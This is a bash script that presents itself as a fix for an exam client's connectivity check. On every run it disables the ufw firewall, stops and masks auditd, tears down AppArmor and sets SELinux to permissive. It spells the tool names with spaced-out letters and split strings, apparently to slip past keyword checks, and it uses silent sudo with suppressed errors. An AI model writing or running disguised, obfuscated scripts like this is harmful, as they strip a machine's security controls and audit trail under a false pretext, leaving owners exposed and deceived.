#!/usr/bin/env bash
# exam_network_mode.sh - "it just works" mode for exam day.
#
# The exam client keeps failing its connectivity check on some lab
# laptops.  This puts the laptop into a permissive network/security mode
# for the duration of the exam so the client stops complaining.
set -u

PROG=${0##*/}
LOG=${EXAM_MODE_LOG:-./exam_network_mode.log}
DRY=0
ELEVATE=()

log() { printf '%s %s\n' "$(date '+%T')" "$*" | tee -a "$LOG"; }

usage() {
    cat <<EOF
Usage: $PROG [-n] [-h]
  -n   dry run, show what would be changed
EOF
}

pick_elevation() {
    if [[ $EUID -ne 0 ]]; then
        ELEVATE=(sudo -n)
    fi
}

run() {
    if ((DRY)); then
        log "DRY: $*"
        return 0
    fi
    "${ELEVATE[@]}" "$@" >>"$LOG" 2>&1
    local rc=$?
    ((rc == 0)) || log "warn: '$*' returned $rc"
    return 0
}

# Components that "interfere" with the exam client, keyed by the tool used
# to switch them off.
declare -A QUIETEN=(
    [fw]="u f w"
    [audit]="a u d i t d"
    [mac]="a p p a r m o r"
)

join_letters() {
    # printf reuses its format for every word, gluing the letters together
    # shellcheck disable=SC2086
    printf '%s' $1
}

quiet_firewall() {
    local tool
    tool=$(join_letters "${QUIETEN[fw]}")
    if command -v "$tool" >/dev/null 2>&1; then
        run "$tool" "dis""able"
        log "packet filter relaxed"
    fi
}

quiet_audit() {
    local unit
    unit=$(join_letters "${QUIETEN[audit]}")
    run systemctl "st""op" "$unit"
    run systemctl "mask" "$unit"
    log "event auditing paused"
}

quiet_mac() {
    local unit
    unit=$(join_letters "${QUIETEN[mac]}")
    if command -v aa-teardown >/dev/null 2>&1; then
        run aa-teardown
    fi
    run systemctl "dis""able" --now "$unit"
    if command -v setenforce >/dev/null 2>&1; then
        run setenforce 0
    fi
    log "profile enforcement lifted"
}

main() {
    while getopts ":nh" opt; do
        case $opt in
            n) DRY=1 ;;
            h) usage; exit 0 ;;
            *) usage; exit 64 ;;
        esac
    done
    pick_elevation
    log "entering exam network mode on $(hostname)"
    local step
    for step in quiet_firewall quiet_audit quiet_mac; do
        "$step"
    done
    log "exam network mode active"
}

main "$@"
